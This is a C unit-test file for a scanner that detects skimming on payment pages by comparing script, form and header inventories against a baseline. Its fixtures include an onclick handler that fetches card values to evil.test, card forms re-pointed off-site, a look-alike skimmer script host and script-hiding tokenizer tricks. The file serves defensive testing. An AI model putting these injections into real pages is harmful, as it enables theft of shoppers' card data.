/*
 * Unit tests: the payment-page inventory and its comparison (issue 6).
 * Real-world-shaped pages: an EC-CUBE-like checkout with a PSP token script;
 * a Magecart-style injected script; a card form re-pointed to another host
 * (by action, by a button's formaction, by an injected <base>); an inline
 * script changed by one byte; SRI missing, malformed, changed and not
 * matching the fetched bytes; the quoting forms browsers accept; the
 * tokenizer states attackers use to hide or fake a script (comments,
 * raw-text elements, "</script" variants, escaped script data, tags cut by
 * the end of input); URL resolution tricks; limits; exact JSON.
 * Each test states the exact inventory or the exact findings.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "scan/web/page.h"
#include "util/buf.h"
#include "util/err.h"
#include "util/json.h"
#include "util/limits.h"

#define PAGE_URL "https://shop.example/shopping/payment"

static struct eg_page_inv *parse_n(const char *url, const char *html,
				   size_t n)
{
	struct eg_page_inv *inv = NULL;
	struct eg_err e;
	eg_err_clear(&e);
	int rc = eg_page_parse(url, html, n, &inv, &e);
	if (rc != 0)
		fail_msg("eg_page_parse: %s", eg_err_msg(&e));
	assert_non_null(inv);
	return inv;
}

static struct eg_page_inv *parse(const char *html)
{
	return parse_n(PAGE_URL, html, strlen(html));
}

/* One line per item, fields in a fixed order, only those set. */
static char *summary(const struct eg_page_inv *inv)
{
	struct eg_buf b;
	eg_buf_init(&b, 1u << 24);
	for (size_t i = 0; i < inv->nitems; i++) {
		const struct eg_page_item *it = &inv->items[i];
		eg_buf_addf(&b, "%s L%u", eg_page_kind_name(it->kind), it->line);
		if (it->kind == EG_PAGE_HANDLER || it->kind == EG_PAGE_JSURL)
			eg_buf_addf(&b, " <%s %s>", it->tag, it->attr);
		if (it->kind == EG_PAGE_LINK)
			eg_buf_addf(&b, " rel=%s", it->attr);
		if (it->url != NULL)
			eg_buf_addf(&b, " %s", it->url);
		else if (it->src != NULL)
			eg_buf_addf(&b, " src=%s", it->src);
		if (it->host != NULL)
			eg_buf_addf(&b, " host=%s", it->host);
		if (it->integrity != NULL)
			eg_buf_addf(&b, " sri=%s",
				    it->sri_state == EG_SRI_VALID ? "valid"
								  : "invalid");
		if (it->type != NULL)
			eg_buf_addf(&b, " type=%s", it->type);
		if (it->method != NULL)
			eg_buf_addf(&b, " %s", it->method);
		if (it->id != NULL)
			eg_buf_addf(&b, " id=%s", it->id);
		if (it->card != 0)
			eg_buf_addf(&b, " card=%s%s%s",
				    it->card & EG_PAGE_CARD_NUMBER ? "N" : "",
				    it->card & EG_PAGE_CARD_CSC ? "C" : "",
				    it->card & EG_PAGE_CARD_EXP ? "E" : "");
		if (it->text != NULL)
			eg_buf_addf(&b, " text=%s", it->text);
		if (it->sha256[0] != '\0')
			eg_buf_addf(&b, " sha=%.12s/%zu", it->sha256, it->length);
		static const struct {
			unsigned f;
			const char *w;
		} fl[] = {
			{EG_PAGE_F_INLINE, "inline"}, {EG_PAGE_F_DATA, "data"},
			{EG_PAGE_F_MODULE, "module"}, {EG_PAGE_F_ASYNC, "async"},
			{EG_PAGE_F_DEFER, "defer"}, {EG_PAGE_F_NOMODULE, "nomodule"},
			{EG_PAGE_F_CUT, "cut"}, {EG_PAGE_F_FORMACTION, "formaction"},
			{EG_PAGE_F_SAME_ORIGIN, "same"},
		};
		for (size_t k = 0; k < sizeof(fl) / sizeof(fl[0]); k++)
			if (it->flags & fl[k].f)
				eg_buf_addf(&b, " %s", fl[k].w);
		eg_buf_addc(&b, '\n');
	}
	assert_int_equal(b.err, 0);
	return eg_buf_steal(&b, NULL);
}

static void assert_inv(const struct eg_page_inv *inv, const char *want)
{
	char *got = summary(inv);
	if (strcmp(got, want) != 0)
		fail_msg("inventory:\n%s\nwanted:\n%s", got, want);
	free(got);
}

/* "severity id subject" per finding. */
static char *fsummary(const struct eg_page_findings *f)
{
	struct eg_buf b;
	eg_buf_init(&b, 1u << 24);
	for (size_t i = 0; i < f->n; i++)
		eg_buf_addf(&b, "%s %s %s\n", f->v[i].severity, f->v[i].id,
			    f->v[i].subject);
	return eg_buf_steal(&b, NULL);
}

static void compare(const struct eg_page_inv *base,
		    const struct eg_page_headers *bh,
		    const struct eg_page_inv *cur,
		    const struct eg_page_headers *ch,
		    const struct eg_page_policy *pol,
		    struct eg_page_findings *f, const char *want)
{
	struct eg_err e;
	eg_err_clear(&e);
	assert_int_equal(eg_page_compare(base, bh, cur, ch, pol, f, &e), 0);
	char *got = fsummary(f);
	if (strcmp(got, want) != 0)
		fail_msg("findings:\n%s\nwanted:\n%s", got, want);
	free(got);
}

/* The reason of the finding with id (the first), or fails. */
static const char *reason(const struct eg_page_findings *f, const char *id)
{
	for (size_t i = 0; i < f->n; i++)
		if (strcmp(f->v[i].id, id) == 0)
			return f->v[i].reason;
	fail_msg("no finding %s", id);
	return NULL;
}

#define TOKEN_SRI "sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC"

/* An EC-CUBE 4 checkout page with a PSP's token script: the card fields
 * have no name (the token script reads them and posts only the token). */
#define ECCUBE_HEAD                                                          \
	"<!doctype html>\n"                                                  \
	"<html lang=\"ja\">\n"                                               \
	"<head>\n"                                                           \
	"<meta charset=\"utf-8\">\n"                                         \
	"<title>ご注文手続き | EC-CUBE SHOP <script>no</script></title>\n"   \
	"<link rel=\"stylesheet\" href=\"/html/template/default/assets/css/style.css\">\n" \
	"<script src=\"/html/bundle/front.bundle.js\"></script>\n"
#define ECCUBE_TOKEN                                                         \
	"<script src=\"https://js.psp.example/v1/token.js\" integrity=\""    \
	TOKEN_SRI "\" crossorigin=\"anonymous\"></script>\n"
#define ECCUBE_REST                                                          \
	"<script type=\"application/ld+json\">{\"@context\":\"https://schema.org\"}</script>\n" \
	"<script>\n  var eccube_lang = \"ja\";\n</script>\n"                 \
	"</head>\n"                                                          \
	"<body id=\"page_shopping\" class=\"front_page\">\n"                 \
	"<form id=\"shopping-form\" method=\"post\" action=\"/shopping/confirm\">\n" \
	"<input type=\"hidden\" name=\"_shopping_order[_token]\" value=\"abc\">\n" \
	"<input type=\"text\" id=\"card_number\" autocomplete=\"cc-number\">\n" \
	"<input type=\"text\" id=\"card_cvc\" autocomplete=\"cc-csc\">\n"    \
	"<select id=\"card_exp_month\" autocomplete=\"cc-exp-month\"><option>01</option></select>\n" \
	"<input type=\"hidden\" name=\"_shopping_order[token]\" id=\"psp_token\">\n" \
	"<button type=\"submit\" class=\"ec-blockBtn--action\">確認する</button>\n" \
	"</form>\n"                                                          \
	"</body>\n</html>\n"
#define ECCUBE ECCUBE_HEAD ECCUBE_TOKEN ECCUBE_REST

static const char eccube_inv[] =
	"link L6 rel=stylesheet https://shop.example/html/template/default/assets/css/style.css host=shop.example same\n"
	"script L7 https://shop.example/html/bundle/front.bundle.js host=shop.example same\n"
	"script L8 https://js.psp.example/v1/token.js host=js.psp.example sri=valid\n"
	"script L9 type=application/ld+json sha=0cbe75c36c26/33 inline data\n"
	"script L10 sha=60ac552b8cad/27 inline\n"
	"form L15 https://shop.example/shopping/confirm host=shop.example post id=shopping-form card=NCE same\n";

static const char *const psp_hosts[] = {"js.psp.example"};
static const char *const form_hosts[] = {"*.psp.example"};

static const struct eg_page_policy payment_pol = {
	psp_hosts, 1, 1, form_hosts, 1, 1,
};

static void test_eccube_inventory(void **state)
{
	(void)state;
	struct eg_page_inv *inv = parse(ECCUBE);
	assert_string_equal(inv->url, PAGE_URL);
	assert_string_equal(inv->origin, "https://shop.example");
	assert_int_equal(inv->bytes, strlen(ECCUBE));
	assert_int_equal(inv->incomplete, 0);
	assert_inv(inv, eccube_inv);
	assert_string_equal(inv->items[2].crossorigin, "anonymous");
	assert_string_equal(inv->items[2].sri, TOKEN_SRI);
	/* No baseline yet: the page's own checks only. The same-origin
	 * bundle without SRI is low; the PSP script has it. */
	struct eg_page_findings f;
	compare(NULL, NULL, inv, NULL, &payment_pol, &f,
		"low page.script_no_sri https://shop.example/html/bundle/front.bundle.js\n");
	eg_page_findings_free(&f);
	/* Against itself: nothing changed. */
	compare(inv, NULL, inv, NULL, &payment_pol, &f,
		"low page.script_no_sri https://shop.example/html/bundle/front.bundle.js\n");
	eg_page_findings_free(&f);
	eg_page_inv_free(inv);
}

static void test_magecart_injected(void **state)
{
	(void)state;
	struct eg_page_inv *base = parse(ECCUBE);
	/* A skimmer loaded from a look-alike host, and a one-line loader
	 * appended to the inline script. */
	struct eg_page_inv *cur = parse(
		ECCUBE_HEAD ECCUBE_TOKEN
		"<script src=\"https://cdn.jquery-analytics.example/jquery.min.js?v=3.6\" async></script>\n"
		ECCUBE_REST);
	struct eg_page_findings f;
	compare(base, NULL, cur, NULL, &payment_pol, &f,
		"critical page.script_added https://cdn.jquery-analytics.example/jquery.min.js?v=3.6\n"
		"high page.script_host https://cdn.jquery-analytics.example/jquery.min.js?v=3.6\n"
		"medium page.script_no_sri https://cdn.jquery-analytics.example/jquery.min.js?v=3.6\n"
		"low page.script_no_sri https://shop.example/html/bundle/front.bundle.js\n");
	assert_string_equal(reason(&f, "page.script_added"),
			    "script https://cdn.jquery-analytics.example/jquery.min.js?v=3.6 "
			    "is new: it is not in the baseline");
	assert_string_equal(reason(&f, "page.script_host"),
			    "script https://cdn.jquery-analytics.example/jquery.min.js?v=3.6 "
			    "comes from cdn.jquery-analytics.example, which is not an "
			    "allowed script host of the site specification");
	eg_page_findings_free(&f);
	/* Not a payment page: a new script is high, not critical. */
	struct eg_page_policy pol = payment_pol;
	pol.payment = 0;
	compare(base, NULL, cur, NULL, &pol, &f,
		"high page.script_host https://cdn.jquery-analytics.example/jquery.min.js?v=3.6\n"
		"high page.script_added https://cdn.jquery-analytics.example/jquery.min.js?v=3.6\n"
		"medium page.script_no_sri https://cdn.jquery-analytics.example/jquery.min.js?v=3.6\n"
		"low page.script_no_sri https://shop.example/html/bundle/front.bundle.js\n");
	eg_page_findings_free(&f);
	/* And the way back: the baseline has a script the page lost. */
	compare(cur, NULL, base, NULL, &payment_pol, &f,
		"medium page.script_removed https://cdn.jquery-analytics.example/jquery.min.js?v=3.6\n"
		"low page.script_no_sri https://shop.example/html/bundle/front.bundle.js\n");
	eg_page_findings_free(&f);
	eg_page_inv_free(base);
	eg_page_inv_free(cur);
}

static void test_inline_one_byte(void **state)
{
	(void)state;
	struct eg_page_inv *base = parse(ECCUBE);
	char *html = strdup(ECCUBE);
	char *p = strstr(html, "\"ja\";");
	assert_non_null(p);
	p[2] = 'b'; /* "ja" -> "jb" */
	struct eg_page_inv *cur = parse(html);
	assert_memory_equal(cur->items[4].sha256, "7bafd782f335", 12);
	struct eg_page_findings f;
	compare(base, NULL, cur, NULL, &payment_pol, &f,
		"critical page.script_changed inline sha256:7bafd782f335\n"
		"low page.script_no_sri https://shop.example/html/bundle/front.bundle.js\n");
	assert_string_equal(reason(&f, "page.script_changed"),
			    "inline script at line 10 (sha256 7bafd782f335, 27 bytes) "
			    "changed: the baseline has inline script at line 10 "
			    "(sha256 60ac552b8cad, 27 bytes) instead");
	eg_page_findings_free(&f);
	free(html);
	eg_page_inv_free(base);
	eg_page_inv_free(cur);
}

static void test_form_repointed(void **state)
{
	(void)state;
	struct eg_page_inv *base = parse(ECCUBE);
	/* 1. The action now posts the card to another host. */
	char *html = strdup(ECCUBE);
	char *p = strstr(html, "action=\"/shopping/confirm\"");
	assert_non_null(p);
	const char *evil = "action=\"//evil.test/c.php\"";
	memcpy(p, evil, strlen(evil));
	struct eg_page_inv *cur = parse(html);
	struct eg_page_findings f;
	compare(base, NULL, cur, NULL, &payment_pol, &f,
		"critical page.form_offsite https://evil.test/c.php\n"
		"high page.form_changed https://evil.test/c.php\n"
		"low page.script_no_sri https://shop.example/html/bundle/front.bundle.js\n");
	assert_string_equal(reason(&f, "page.form_offsite"),
			    "card form at line 15 posts to https://evil.test/c.php, "
			    "which is neither this site (https://shop.example) nor "
			    "an allowed form host: card data would leave for "
			    "another server");
	assert_string_equal(reason(&f, "page.form_changed"),
			    "card form at line 15 now posts to https://evil.test/c.php "
			    "instead of https://shop.example/shopping/confirm");
	eg_page_findings_free(&f);
	eg_page_inv_free(cur);
	free(html);

	/* 2. Posting to the declared payment provider is allowed. */
	cur = parse("<form action=\"https://pay.psp.example/charge\" method=post>"
		    "<input name=\"cardNumber\"><input name=\"cvc2\"></form>");
	compare(NULL, NULL, cur, NULL, &payment_pol, &f, "");
	eg_page_findings_free(&f);
	eg_page_inv_free(cur);

	/* 3. A button's formaction overrides the action; an input outside
	 * the form joins it with form=ID. */
	cur = parse("<form id=pay action=/shopping/confirm method=post>\n"
		    "<button formaction=\"https://evil.test/x\">pay</button>\n"
		    "</form>\n"
		    "<input form=pay name=card_no>\n");
	assert_inv(cur,
		   "form L1 https://shop.example/shopping/confirm host=shop.example post id=pay card=N same\n"
		   "form L2 https://evil.test/x host=evil.test post card=N formaction\n");
	compare(NULL, NULL, cur, NULL, &payment_pol, &f,
		"critical page.form_offsite https://evil.test/x\n");
	eg_page_findings_free(&f);
	eg_page_inv_free(cur);

	/* 4. An injected <base> moves the relative action elsewhere. */
	cur = parse("<base href=\"https://evil.test/\">"
		    "<form action=\"shopping/confirm\" method=post>"
		    "<input autocomplete=\"cc-number\"></form>");
	compare(base, NULL, cur, NULL, &payment_pol, &f,
		"critical page.form_offsite https://evil.test/shopping/confirm\n"
		"high page.form_changed https://evil.test/shopping/confirm\n"
		"high page.base_changed https://evil.test/\n"
		"medium page.script_removed https://shop.example/html/bundle/front.bundle.js\n"
		"medium page.script_removed https://js.psp.example/v1/token.js\n"
		"medium page.script_removed inline sha256:60ac552b8cad\n"
		"low page.link_removed https://shop.example/html/template/default/assets/css/style.css\n");
	eg_page_findings_free(&f);
	eg_page_inv_free(cur);

	/* 5. A card form where the baseline had none: a fake card page. */
	struct eg_page_inv *plain = parse("<form action=/search><input name=q></form>");
	cur = parse("<form action=/search><input name=q></form>\n"
		    "<form action=/pay method=post><input name=card_number>"
		    "<input name=security_code></form>");
	compare(plain, NULL, cur, NULL, &payment_pol, &f,
		"high page.card_form_added https://shop.example/pay\n");
	eg_page_findings_free(&f);
	eg_page_inv_free(plain);
	eg_page_inv_free(cur);
	eg_page_inv_free(base);
}

static void test_sri(void **state)
{
	(void)state;
	struct eg_page_inv *inv = parse(
		"<script src=https://a.example/1.js></script>\n"
		"<script src=https://a.example/2.js integrity=\"md5-abc sha256-short\"></script>\n"
		"<script src=https://a.example/3.js integrity=\"sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI= "
		"sha384-HT2E9NfWiuQ/w1PRai+hTyqW16NIoCGA/m8VQDUopfAtcz6YQjtsMmQd5uRbVDpW?opt\"></script>\n");
	assert_inv(inv,
		   "script L1 https://a.example/1.js host=a.example\n"
		   "script L2 https://a.example/2.js host=a.example sri=invalid\n"
		   "script L3 https://a.example/3.js host=a.example sri=valid\n");
	assert_null(inv->items[1].sri);
	assert_string_equal(inv->items[2].sri,
			    "sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI= "
			    "sha384-HT2E9NfWiuQ/w1PRai+hTyqW16NIoCGA/m8VQDUopfAtcz6YQjtsMmQd5uRbVDpW");
	/* Fetched bytes: browsers check the strongest algorithm (sha384). */
	struct eg_page_item *it = &inv->items[2];
	assert_int_equal(eg_page_item_set_content(it, "alert(1)", 8), 0);
	assert_int_equal(it->sri_match, 1);
	assert_string_equal(it->content_sha256,
			    "6e11c72f7cf6bc383152dd16ddd5903aba6bb1c99d6b6639a4bb0b838185fa92");
	assert_int_equal(eg_page_item_set_content(&inv->items[0], "x", 1), 0);
	assert_int_equal(inv->items[0].sri_match, -1);
	struct eg_page_findings f;
	compare(NULL, NULL, inv, NULL, NULL, &f,
		"medium page.script_no_sri https://a.example/1.js\n"
		"medium page.script_sri_invalid https://a.example/2.js\n");
	eg_page_findings_free(&f);
	/* The file changed on the CDN: its bytes no longer match. */
	struct eg_page_inv *base = parse(
		"<script src=https://a.example/3.js integrity=\"sha384-HT2E9NfWiuQ/w1PRai+hTyqW16NIoCGA/m8VQDUopfAtcz6YQjtsMmQd5uRbVDpW\"></script>");
	struct eg_page_inv *cur = parse(
		"<script src=https://a.example/3.js integrity=\"sha384-HT2E9NfWiuQ/w1PRai+hTyqW16NIoCGA/m8VQDUopfAtcz6YQjtsMmQd5uRbVDpW\"></script>");
	eg_page_item_set_content(&base->items[0], "alert(1)", 8);
	eg_page_item_set_content(&cur->items[0], "alert(2)", 8);
	assert_int_equal(cur->items[0].sri_match, 0);
	compare(base, NULL, cur, NULL, &payment_pol, &f,
		"critical page.script_changed https://a.example/3.js\n"
		"high page.script_sri_mismatch https://a.example/3.js\n"
		"high page.script_host https://a.example/3.js\n");
	assert_string_equal(reason(&f, "page.script_changed"),
			    "script https://a.example/3.js changed: its content was "
			    "sha256 6e11c72f7cf6, now e1ac651e9c60");
	eg_page_findings_free(&f);
	/* Same URL, new integrity: the authorised file was swapped. */
	eg_page_inv_free(cur);
	cur = parse("<script src=https://a.example/3.js integrity=\"sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI=\"></script>");
	struct eg_page_policy pol = payment_pol;
	pol.check_script_hosts = 0;
	compare(base, NULL, cur, NULL, &pol, &f,
		"critical page.script_changed https://a.example/3.js\n");
	assert_string_equal(reason(&f, "page.script_changed"),
			    "script https://a.example/3.js changed: its integrity was "
			    "\"sha384-HT2E9NfWiuQ/w1PRai+hTyqW16NIoCGA/m8VQDUopfAtcz6YQjtsMmQd5uRbVDpW\", "
			    "now \"sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI=\"");
	eg_page_findings_free(&f);
	eg_page_inv_free(base);
	eg_page_inv_free(cur);
	eg_page_inv_free(inv);
}

static void test_quoting(void **state)
{
	(void)state;
	struct eg_page_inv *inv = parse(
		"<SCRIPT SRC = 'https://A.example:443/x.js' ASYNC></SCRIPT>\n"
		"<script/src=/y.js defer type=module></script>\n"
		"<script src=\"/z.js?a=1&amp;b=2\" src=\"/ignored.js\"></script>\n"
		"<script src=&#x2F;&#47;cdn.example/w.js nomodule=\"\"></script>\n"
		"<script type=\"text/javascript; charset=utf-8\">x</script>\n"
		"<script type=\" TEXT/JavaScript \" language=vbscript>x</script>\n"
		"<script language=vbscript>x</script>\n"
		"<script type=\"\">x</script>\n"
		"<link rel=\"Preload stylesheet\" as=style href=/a.css integrity=\"sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI=\">\n"
		"<link rel=icon href=/favicon.ico>\n");
	assert_inv(inv,
		   "script L1 https://a.example/x.js host=a.example async\n"
		   "script L2 https://shop.example/y.js host=shop.example type=module module defer same\n"
		   "script L3 https://shop.example/z.js?a=1&b=2 host=shop.example same\n"
		   "script L4 https://cdn.example/w.js host=cdn.example nomodule\n"
		   "script L5 type=text/javascript; charset=utf-8 sha=2d711642b726/1 inline data\n"
		   "script L6 type= TEXT/JavaScript  sha=2d711642b726/1 inline\n"
		   "script L7 sha=2d711642b726/1 inline data\n"
		   "script L8 type= sha=2d711642b726/1 inline\n"
		   "link L9 rel=Preload stylesheet https://shop.example/a.css host=shop.example sri=valid type=style same\n");
	eg_page_inv_free(inv);
}

static void test_tokenizer_states(void **state)
{
	(void)state;
	/* Nothing here is a script a browser would run, except where said. */
	struct eg_page_inv *inv = parse(
		"<!-- <script src=/c1.js></script> -->\n"
		"<!--> <script src=/real1.js></script>\n"
		"<!-- a --!> <script src=/real2.js></script>\n"
		"<textarea><script src=/t.js></script></textarea>\n"
		"<title><script src=/t2.js></script></TITLE >\n"
		"<style>/* <script src=/s.js></script> */</style>\n"
		"<noscript><script src=/n.js></script></noscript>\n"
		"<xmp><script src=/x.js></script></xmp>\n"
		"<!DOCTYPE html><![CDATA[ x ]]><?php echo 1 ?>\n"
		"<div title=\"<script src=/attr.js></script>\"></div>\n"
		"<script>a</scriptx>b</SCRIPT >\n"
		"<script>c</script/>\n"
		"<script><!--<script>d</script>e--></script>\n"
		"<script><!-- f --></script>\n"
		"</ script><script src=/real3.js></script>\n");
	assert_inv(inv,
		   "script L2 https://shop.example/real1.js host=shop.example same\n"
		   "script L3 https://shop.example/real2.js host=shop.example same\n"
		   "script L11 sha=7c0ff4dd78af/12 inline\n"
		   "script L12 sha=2e7d2c03a950/1 inline\n"
		   "script L13 sha=eac9023d436d/26 inline\n"
		   "script L14 sha=2becfdc68a92/10 inline\n"
		   "script L15 https://shop.example/real3.js host=shop.example same\n");
	eg_page_inv_free(inv);
	/* Cut by the end of input: a tag is dropped, text runs to the end, an
	 * open comment hides the rest. */
	inv = parse("<script src=/a.js></script><script src=\"/b.js");
	assert_inv(inv, "script L1 https://shop.example/a.js host=shop.example same\n");
	eg_page_inv_free(inv);
	inv = parse("<script>abc");
	assert_inv(inv, "script L1 sha=ba7816bf8f01/3 inline\n");
	eg_page_inv_free(inv);
	inv = parse("<!-- <script src=/a.js></script>");
	assert_inv(inv, "");
	eg_page_inv_free(inv);
	/* the handler of a tag cut by the end is dropped with its tag */
	inv = parse("<b onclick=x>y</b><a onclick=\"steal()\" title=\"");
	assert_inv(inv, "handler L1 <b onclick> sha=2d711642b726/1\n");
	eg_page_inv_free(inv);
	/* NUL bytes and invalid UTF-8 are data; the page still parses. */
	static const char nul[] = "<scr\0ipt src=/a.js></script>\xff\xfe<a onclick=\"\0x\">";
	inv = parse_n(PAGE_URL, nul, sizeof(nul) - 1);
	assert_inv(inv, "handler L1 <a onclick> sha=a87ce46793cc/4\n");
	eg_page_inv_free(inv);
}

static void test_handlers_and_js_urls(void **state)
{
	(void)state;
	struct eg_page_inv *inv = parse(
		"<body onload=\"init()\">\n"
		"<a href=\"  JaVa&#x09;ScRiPt&colon;alert(1)\" OnClick='init()'>x</a>\n"
		"<img src=x onerror=init()>\n"
		"<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>\n"
		"<iframe src=\"javascript:alert(1)\"></iframe>\n"
		"<form action=\"javascript:void(0)\"></form>\n"
		"<a href=\"/javascript:no\">y</a>\n");
	assert_inv(inv,
		   "handler L1 <body onload> sha=c38ba39cea63/6\n"
		   "jsurl L2 <a href> sha=2bb0566b20a6/22\n"
		   "handler L2 <a onclick> sha=c38ba39cea63/6\n"
		   "handler L3 <img onerror> sha=c38ba39cea63/6\n"
		   "iframe L4 sha=5c140d35dcb4/25 inline\n"
		   "jsurl L5 <iframe src> sha=d0ee0421cce9/19\n"
		   "iframe L5 javascript:alert(1)\n"
		   "jsurl L6 <form action> sha=ad131d92c859/18\n"
		   "form L6 javascript:void(0) get\n");
	/* A handler added to the card form's button is new code. */
	struct eg_page_inv *base = parse("<button>pay</button>");
	struct eg_page_inv *cur = parse("<button onclick=\"fetch('//evil.test/?'+card.value)\">pay</button>");
	struct eg_page_findings f;
	compare(base, NULL, cur, NULL, &payment_pol, &f,
		"critical page.script_added handler sha256:d1b6cc5391c2\n");
	assert_string_equal(reason(&f, "page.script_added"),
			    "event handler onclick on <button> at line 1 (sha256 "
			    "d1b6cc5391c2) is new: it is not in the baseline");
	eg_page_findings_free(&f);
	eg_page_inv_free(base);
	eg_page_inv_free(cur);
	eg_page_inv_free(inv);
}

static void test_urls(void **state)
{
	(void)state;
	struct eg_page_inv *inv;
	const char *html =
		"<script src=d.js></script>\n"
		"<script src=../e.js></script>\n"
		"<script src=./f/../../../g.js></script>\n"
		"<script src=?x=1></script>\n"
		"<script src=#h></script>\n"
		"<script src=\"\"></script>\n"
		"<script src=//other.example/i.js></script>\n"
		"<script src=\"http://other.example:80/j.js\"></script>\n"
		"<script src=\"https:k.js\"></script>\n"
		"<script src=\"http:evil.test/l.js\"></script>\n"
		"<script src=\"https:////evil.test/m.js\"></script>\n"
		"<script src=\"https://EVIL.%74est/n.js\"></script>\n"
		"<script src=\" https://ev\til.test/o\n.js \"></script>\n"
		"<script src=\"https://user:pw@evil.test/p.js\"></script>\n"
		"<script src=\"https://a.example:99999/q.js\"></script>\n"
		"<script src=\"data:text/javascript,alert(1)\"></script>\n"
		"<script src=\"https://[::1]:8443/r.js\"></script>\n"
		"<script src=\"/%2e%2E/s.js\"></script>\n";
	inv = parse_n("https://Shop.Example:8443/a/b/c?q=1#top", html,
		      strlen(html));
	assert_string_equal(inv->origin, "https://shop.example:8443");
	assert_inv(inv,
		   "script L1 https://shop.example:8443/a/b/d.js host=shop.example same\n"
		   "script L2 https://shop.example:8443/a/e.js host=shop.example same\n"
		   "script L3 https://shop.example:8443/g.js host=shop.example same\n"
		   "script L4 https://shop.example:8443/a/b/c?x=1 host=shop.example same\n"
		   "script L5 https://shop.example:8443/a/b/c?q=1#h host=shop.example same\n"
		   "script L6 https://shop.example:8443/a/b/c?q=1 host=shop.example same\n"
		   "script L7 https://other.example/i.js host=other.example\n"
		   "script L8 http://other.example/j.js host=other.example\n"
		   "script L9 https://shop.example:8443/a/b/k.js host=shop.example same\n"
		   "script L10 http://evil.test/l.js host=evil.test\n"
		   "script L11 https://evil.test/m.js host=evil.test\n"
		   "script L12 https://evil.test/n.js host=evil.test\n"
		   "script L13 https://evil.test/o.js host=evil.test\n"
		   "script L15 https://evil.test/p.js host=evil.test\n"
		   "script L16 src=https://a.example:99999/q.js\n"
		   "script L17 data:text/javascript,alert(1)\n"
		   "script L18 https://[::1]:8443/r.js host=[::1]\n"
		   "script L19 https://shop.example:8443/s.js host=shop.example same\n");
	eg_page_inv_free(inv);
	struct eg_err e;
	eg_err_clear(&e);
	assert_int_equal(eg_page_parse("ftp://x/", "", 0, &inv, &e), EG_E_INVAL);
	assert_null(inv);
	assert_non_null(strstr(eg_err_msg(&e), "ftp://x/"));
	char o[64];
	assert_int_equal(eg_page_origin("HTTP://A.Example:80/x", o, sizeof(o)), 0);
	assert_string_equal(o, "http://a.example");
	assert_int_equal(eg_page_origin("/relative", o, sizeof(o)), EG_E_INVAL);
}

static void test_card_fields(void **state)
{
	(void)state;
	struct eg_page_inv *inv = parse(
		"<form id=a><input name=\"credit_card[number]\"></form>\n"
		"<form id=b><input name=cardNo></form>\n"
		"<form id=c><input id=cvv><input type=month name=exp_month></form>\n"
		"<form id=d><input type=hidden name=card_no><input type=radio name=cvc></form>\n"
		"<form id=e><input name=email><input name=password type=password></form>\n"
		"<form id=f><textarea name=\"securityCode\"></textarea></form>\n"
		"<form id=g><input autocomplete=\"section-pay billing cc-number\"></form>\n"
		"<form id=h><input name=expiry_month></form>\n");
	assert_inv(inv,
		   "form L1 https://shop.example/shopping/payment host=shop.example get id=a card=N same\n"
		   "form L2 https://shop.example/shopping/payment host=shop.example get id=b card=N same\n"
		   "form L3 https://shop.example/shopping/payment host=shop.example get id=c card=CE same\n"
		   "form L4 https://shop.example/shopping/payment host=shop.example get id=d same\n"
		   "form L5 https://shop.example/shopping/payment host=shop.example get id=e same\n"
		   "form L6 https://shop.example/shopping/payment host=shop.example get id=f card=C same\n"
		   "form L7 https://shop.example/shopping/payment host=shop.example get id=g card=N same\n"
		   "form L8 https://shop.example/shopping/payment host=shop.example get id=h card=E same\n");
	eg_page_inv_free(inv);
	/* A form inside a form is dropped by browsers: its fields belong to
	 * the outer one. */
	inv = parse("<form action=/a><form action=https://evil.test/b>"
		    "<input name=card_number></form></form>");
	assert_inv(inv, "form L1 https://shop.example/a host=shop.example get card=N same\n");
	eg_page_inv_free(inv);
	/* Card fields outside any form (a script sends them): one stand-in
	 * item with method "script" and no target; fields of a real form
	 * and a non-card field outside one do not join it. */
	inv = parse("<input name=q>\n"
		    "<div><input autocomplete=cc-number name=n></div>\n"
		    "<form action=/pay><input name=cvc></form>\n"
		    "<input name=security_code>");
	assert_inv(inv,
		   "form L2 script card=NC\n"
		   "form L3 https://shop.example/pay host=shop.example get card=C same\n");
	struct eg_page_findings f = {0};
	/* On its own: scripted card fields, never an offsite form. */
	compare(NULL, NULL, inv, NULL, &payment_pol, &f,
		"medium page.card_fields_scripted \n");
	eg_page_findings_free(&f);
	/* Injected where the baseline had only the real form. */
	struct eg_page_inv *base =
		parse("<form action=/pay><input name=cvc></form>");
	compare(base, NULL, inv, NULL, &payment_pol, &f,
		"high page.card_form_added \n"
		"medium page.card_fields_scripted \n");
	eg_page_findings_free(&f);
	eg_page_inv_free(base);
	eg_page_inv_free(inv);
}

static void test_headers(void **state)
{
	(void)state;
	struct eg_page_headers bh = {NULL, 0}, ch = {NULL, 0};
	assert_int_equal(eg_page_headers_add(&bh, "Content-Security-Policy",
					     "script-src 'self' https://js.psp.example"), 0);
	assert_int_equal(eg_page_headers_add(&bh, "X-Frame-Options", "DENY"), 0);
	assert_int_equal(eg_page_headers_add(&bh, "Referrer-Policy", "same-origin"), 0);
	assert_int_equal(eg_page_headers_add(&ch, "content-security-policy",
					     "script-src * 'unsafe-inline'"), 0);
	assert_int_equal(eg_page_headers_add(&ch, "referrer-policy", "same-origin"), 0);
	assert_int_equal(eg_page_headers_add(&ch, "Permissions-Policy", "payment=()"), 0);
	assert_int_equal(eg_page_headers_add(&ch, "", "x"), EG_E_INVAL);
	assert_int_equal(eg_page_security_header("x-frame-OPTIONS"), 1);
	assert_int_equal(eg_page_security_header("Server"), 0);
	struct eg_page_inv *base = parse(
		"<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'\">");
	struct eg_page_inv *cur = parse(
		"<META HTTP-EQUIV=content-security-policy CONTENT=\"default-src *\">");
	struct eg_page_findings f;
	compare(base, &bh, cur, &ch, NULL, &f,
		"high page.header_changed <meta> Content-Security-Policy\n"
		"high page.header_changed Content-Security-Policy\n"
		"high page.header_changed X-Frame-Options\n"
